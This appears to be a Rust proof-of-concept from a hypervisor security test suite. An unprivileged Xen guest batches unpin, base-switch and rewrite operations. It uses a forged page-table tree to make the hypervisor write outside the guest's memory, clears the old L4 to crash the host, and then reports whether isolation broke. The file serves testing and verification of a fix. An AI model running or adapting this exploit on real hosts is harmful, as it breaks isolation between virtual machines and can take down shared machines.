//! The base-switch attack (issue 13, finding 1), made for real by an
//! unprivileged domU. In one `mmuext_op` batch it unpins its live L4,
//! switches to a pinned copy of it, and rewrites the old L4: first with a
//! forged tree that maps the batch's `*done` page onto a frame the guest
//! does not own, then by clearing it. A hypervisor that loads the new base
//! only after the batch still walks the old L4 meanwhile: its `*done` write
//! goes through the forged tree to the foreign frame, and the cleared L4
//! takes its own mappings away (the machine dies). One that loads the new
//! base before the old one's references go completes both batches, writes
//! the count into the guest's own page, and the guest runs on.

use crate::forged_tree::{foreign_frame, forge, holds_copy_of, is_cleared};
use guest_sdk::hypercall::{mmuext_op, raw, xen_version};
use guest_sdk::page_table::{Frame, PageTableError, PageTableManager, XenMmu, boot_manager};
use guest_sdk::start_info::StartInfo;
use guest_sdk::{XenError, println, pv_console, sched, time, upcall};
use xen_abi::hypercall::MMUEXT_OP;
use xen_abi::mmu::{
    DOMID_SELF, MMUEXT_CLEAR_PAGE, MMUEXT_COPY_PAGE, MMUEXT_NEW_BASEPTR, MMUEXT_PIN_L4_TABLE, MMUEXT_UNPIN_TABLE,
    MmuextOp,
};

type Manager = PageTableManager<XenMmu>;

/// Requests in each attacking batch, so what `*done` must say after it.
const BATCH: u32 = 3;
/// How long the verdict waits for dom0's console backend (ns).
const CONSOLE_WAIT: u64 = 5_000_000_000;
/// How often it looks (ns).
const CONSOLE_POLL: u64 = 1_000_000;

/// How one batch ended.
enum Outcome {
    /// Completed, with `*done` in the guest's own page saying [`BATCH`].
    Landed,
    /// Refused by the hypervisor.
    Refused,
    /// Completed, but the guest's own `*done` says otherwise: the count
    /// went somewhere else.
    Misdirected,
    /// Not made: the batch before it was refused.
    NotMade,
}

/// Runs both attacks, reports, and powers off.
pub fn main(info: &'static StartInfo) -> ! {
    let verdict = match attack(info) {
        Ok([Outcome::Landed, Outcome::Landed]) => {
            "the hypervisor stayed up; both batches completed with *done in my own page"
        }
        Ok(outcomes) if outcomes.iter().any(|o| matches!(o, Outcome::Misdirected)) => {
            "ISOLATION BROKEN: the hypervisor wrote a batch's *done outside my memory"
        }
        Ok(_) => "the hypervisor refused an attack and stayed up",
        Err(error) => {
            println!("base_switch: setup failed: {error}");
            "attack not made"
        }
    };
    // Events, timers and dom0's console on the new base: the verdict comes
    // through dom0 if dom0 still serves. Polled: dom0 binding our console
    // port sends us no event.
    let deadline = time::now() + CONSOLE_WAIT;
    let events = upcall::start(info);
    while events.is_ok() && !pv_console::connected() && time::now() < deadline {
        let _ = time::sleep(CONSOLE_POLL);
    }
    if !pv_console::connected() {
        println!("base_switch: dom0's console backend did not connect");
    }
    println!("base_switch: verdict: {verdict}");
    sched::power_off()
}

/// The forged-tree batch, then the clearing batch, each from the base the
/// one before left.
fn attack(info: &'static StartInfo) -> Result<[Outcome; 2], PageTableError> {
    let mut tables = boot_manager(info);
    let boot = tables.boot_root(info).mfn;
    let victim = foreign_frame(&tables, info.nr_pages);
    println!("base_switch: my L4 is mfn {boot:#x}; the forged tree maps my *done page onto mfn {victim:#x}, not mine");

    let next = pinned_copy(&mut tables, boot)?;
    let report = report_page(&mut tables)?;
    let forged = forge(&mut tables, boot, report.va, victim)?;
    let first = switch_and_rewrite(
        &mut tables,
        "forged tree",
        boot,
        next,
        op(MMUEXT_COPY_PAGE, boot, forged.mfn),
        &report,
    )?;
    if matches!(first, Outcome::Refused) {
        return Ok([first, Outcome::NotMade]);
    }
    if holds_copy_of(&mut tables, boot, &forged)? {
        println!("base_switch: forged tree: the old L4 {boot:#x} holds it now, and the CPU runs on {next:#x}");
    }

    let last = pinned_copy(&mut tables, next)?;
    let report = report_page(&mut tables)?;
    let second = switch_and_rewrite(
        &mut tables,
        "clear",
        next,
        last,
        op(MMUEXT_CLEAR_PAGE, next, 0),
        &report,
    )?;
    if !matches!(second, Outcome::Refused) && is_cleared(&tables, next)? {
        println!("base_switch: clear: the old L4 {next:#x} is all zeroes now, and the CPU runs on {last:#x}");
    }
    still_running(&mut tables)?;
    Ok([first, second])
}

/// One attacking batch, `*done` in `report`: unpin `old`, the live base;
/// switch to `new`; then `rewrite` the old base. `name` labels its lines.
fn switch_and_rewrite(
    tables: &mut Manager,
    name: &str,
    old: u64,
    new: u64,
    rewrite: MmuextOp,
    report: &Frame,
) -> Result<Outcome, PageTableError> {
    let ops = [op(MMUEXT_UNPIN_TABLE, old, 0), op(MMUEXT_NEW_BASEPTR, new, 0), rewrite];
    let result = XenError::check(raw(
        MMUEXT_OP,
        [
            ops.as_ptr() as u64,
            ops.len() as u64,
            report.va,
            u64::from(DOMID_SELF),
            0,
        ],
    ));
    if let Err(error) = result {
        println!("base_switch: {name}: batch [unpin old, new base, rewrite old] refused with {error}");
        return Ok(Outcome::Refused);
    }
    // The hypervisor took `new` as the base; a new base pointer to it again
    // changes nothing but tells the manager which tables it walks.
    tables.switch_to(new)?;
    let done = tables.read_mapped(report.va)? as u32;
    println!("base_switch: {name}: batch [unpin old, new base, rewrite old] completed; *done in my page = {done}");
    Ok(if done == BATCH {
        Outcome::Landed
    } else {
        Outcome::Misdirected
    })
}

/// A pinned L4 holding a copy of `l4` (the hypervisor copies it: the guest
/// has no writable mapping of a table).
fn pinned_copy(tables: &mut Manager, l4: u64) -> Result<u64, PageTableError> {
    let copy = tables.new_table()?.mfn;
    mmuext_op(&[op(MMUEXT_COPY_PAGE, copy, l4), op(MMUEXT_PIN_L4_TABLE, copy, 0)])?;
    Ok(copy)
}

/// A page for one batch's `*done` alone, zeroed. The hypervisor touches it
/// first with that write, so under QEMU (which keeps the guest's own
/// translations apart from ring 0's) the write walks the tables the CPU is
/// on, and no cached translation hides which those are.
fn report_page(tables: &mut Manager) -> Result<Frame, PageTableError> {
    let page = tables.allocate_frame()?;
    tables.write_mapped(page.va, 0)?;
    Ok(page)
}

/// Memory and hypercalls work on the base the attacks left.
fn still_running(tables: &mut Manager) -> Result<(), PageTableError> {
    let page = tables.allocate_frame()?;
    tables.write_mapped(page.va, 0x600d)?;
    let value = tables.read_mapped(page.va)?;
    let (major, minor) = xen_version()?;
    println!("base_switch: running on the new base: a fresh page reads {value:#x}; xen_version {major}.{minor}");
    Ok(())
}

/// One `mmuext_op` request.
fn op(cmd: u32, arg1: u64, arg2: u64) -> MmuextOp {
    MmuextOp {
        cmd,
        _pad0: 0,
        arg1,
        arg2,
    }
}
